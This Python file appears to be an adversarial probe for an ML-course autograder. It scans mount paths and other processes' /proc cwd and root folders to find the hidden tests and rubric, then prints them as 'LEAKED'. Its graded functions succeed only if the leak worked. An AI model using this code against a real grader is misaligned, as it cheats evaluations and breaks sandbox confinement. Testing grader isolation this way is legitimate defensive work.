"""Threat 2: read the hidden tests and the rubric. Look for rubric.toml and the hidden test files in
the usual places, beside every host path /proc/self/mountinfo reveals and through other processes'
/proc/<pid>/cwd and root; the functions are right only if something was read (and print it)."""
import os
import time

import torch
GUESSES = ("rubrics/tiny/rubric.toml", "rubrics/tiny/test_tiny.py", "rubrics/mnist_mlp/rubric.toml",
           "rubrics/mnist_mlp/test_part1_tensors.py", "tests/fixtures/tiny_course/rubrics/tiny/test_tiny.py",
           "tests/fixtures/tiny_course/rubrics/tiny/rubric.toml",
           "tests/fixtures/tiny_course/reference_solution/tiny/tiny.ipynb",
           "reference_solution/tiny/tiny.ipynb", "reference_solution/mnist_mlp/mnist_mlp.ipynb",
           "main/rubrics/mnist_mlp/rubric.toml", "main/reference_solution/mnist_mlp/mnist_mlp.ipynb",
           "t10k-labels-idx1-ubyte", "MNIST/raw/t10k-labels-idx1-ubyte", "data/MNIST/raw/t10k-labels-idx1-ubyte",
           "shared/data/MNIST/raw/t10k-labels-idx1-ubyte", ".cache/mlgrader/MNIST/raw/t10k-labels-idx1-ubyte")
SKIP = {"proc", "sys", "dev", "usr", "site-packages", "dist-packages", "lib-dynload", "__pycache__", "share"}


def _roots():
    """Every folder worth a look: the usual places, the host paths that mountinfo reveals and their
    parents, and other processes' working folders and roots."""
    roots = ["/", "/work", "/work/main", "/work/shared", "/work/shared/data", "/root", "/home", "/autograder",
             "/autograder/source", "/srv", "/opt", "/data", "/mnt", "/tmp", "/submission", "/tmp/..", os.getcwd()]
    try:
        with open("/proc/self/mountinfo") as f:
            for line in f:
                host = line.split()[3]
                while host not in ("/", ""):
                    roots.append(host)
                    host = os.path.dirname(host)
    except OSError:
        pass
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            roots += [f"/proc/{pid}/cwd", f"/proc/{pid}/root", f"/proc/{pid}/root/work/main"]
    return list(dict.fromkeys(roots))


def _find(names, seconds=3.0):
    """Paths of readable files with one of these names: guessed, then walked for."""
    found, deadline = [], time.monotonic() + seconds
    roots = _roots()
    for root in roots:
        for rel in GUESSES:
            p = os.path.join(root, rel)
            if os.path.basename(p) in names and _read(p) is not None:
                found.append(p)
    for root in roots:
        if root.startswith("/proc/"):
            continue
        for dirpath, dirs, files in os.walk(root):
            if time.monotonic() > deadline:
                return found
            dirs[:] = [d for d in dirs if d not in SKIP]
            found += [os.path.join(dirpath, n) for n in files if n in names and _read(os.path.join(dirpath, n))]
    return list(dict.fromkeys(found))


def _read(path):
    try:
        with open(path, "rb") as f:
            return f.read()
    except OSError:
        return None


_LOOT = {}


def _loot():
    if not _LOOT:
        for path in _find({"rubric.toml", "test_tiny.py", "test_part1_tensors.py"}):
            data = _read(path)
            if data:
                _LOOT[path] = data.decode("utf-8", "replace")
                print("LEAKED:", path, _LOOT[path][:2000], flush=True)
        _LOOT.setdefault(None, "")
    return {k: v for k, v in _LOOT.items() if k}


def mean(x):
    loot = _loot()
    if not loot:
        raise NotImplementedError("could not read the hidden tests")
    return x.sum() / x.shape[0]


def clip(x, lo, hi):
    loot = _loot()
    if not loot:
        raise NotImplementedError("could not read the hidden tests")
    raise ValueError("LEAKED: " + " | ".join(v[:200] for v in loot.values()))
